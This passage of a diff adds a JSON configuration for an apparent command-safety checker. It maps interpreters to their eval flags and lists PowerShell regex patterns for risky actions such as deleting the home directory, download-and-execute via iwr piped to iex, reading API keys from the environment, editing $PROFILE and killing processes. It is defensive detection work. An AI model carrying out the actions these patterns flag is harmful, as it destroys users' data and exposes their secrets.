+["eval"],"dialect":"erlang"},"octave":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["ev\
+al","batch"],"code":["eval","batch","r"],"dialect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"ghc"\
+:{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"code\
+":["e"],"dialect":"haskell"},"scala":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect":\
+"named"},"amm":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"swift":{"short"\
+:"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","lo\
+ng":[],"code":["e"],"dialect":"named","operands":"code"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-sc\
+ript":{"short":"","long":[],"dialect":"named"},"swiftc":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"",\
+"long":[],"dialect":"named"},"kotlinc":{"short":"","long":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":\
+"","long":[],"dialect":"typed"},"jshell":{"short":"","long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dia\
+lect":"typed"},"tcc":{"short":"","long":[],"dialect":"typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"cla\
+ng":{"short":"","long":[],"dialect":"typed"},"clang++":{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":"\
+","long":[],"dialect":"typed"},"dotnet":{"short":"","long":[],"dialect":"typed","operands":"code"},"dotnet-script":{"short":"","long":[],"dialect":"typed","oper\
+ands":"code"},"pwsh":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,200\
+0}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'\
+|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,\
+40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:\
+(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\\
+bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\\
+(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\
+\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300\
+}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Incl\
+ude|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\\
+s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat\
+|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:S\
+ystem\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200\
+})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"\
+'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()\
+-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & do\
+ne":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|ex\
+it)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-\
+]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{\
+0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-Loc\
+alPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?\
+<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s\
+ 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1\
+"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"\
+'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s\
++-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|\
+Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-\
+][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)(\
+[^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-Wh\
+atIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullNam\
+e|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]\
+*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Wher\
+e|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\\
+"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh\
+|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"\
+|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:S\
+top-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|Cu\
+rrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequ\
+est|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|i\
+rm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-W\
+ebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOK\
+EN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\
+\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'\
+[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseI\
+nput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\
+\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm \
+-rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\
+\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)\
+*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[\
+^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,30\
+0}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter\
+)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-C\
+ontent|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\
+\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|\
+#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+\
+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([\
+^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while\
+ :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\
+\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\\
+"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"\
+'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n\
+|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"ki\
+llall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"]\
+,"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\
+\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{\
+0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|\
+dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-Fi\
+le|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\
+\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\
+\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]\
+{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|Bas\
+eName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-]\
+[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt\
+|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?\
+:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cm\
+d|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\
+\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\
+\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}\
+(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|I\
+nvoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\
+\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr\
+|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,3\
+00}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"co\
+de","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"\
+[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$)\
+)","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?\
+:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\\
+))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\\
+.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Fil\
+ter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+\
+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b\
+)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-\
+(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n\
+]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-]\
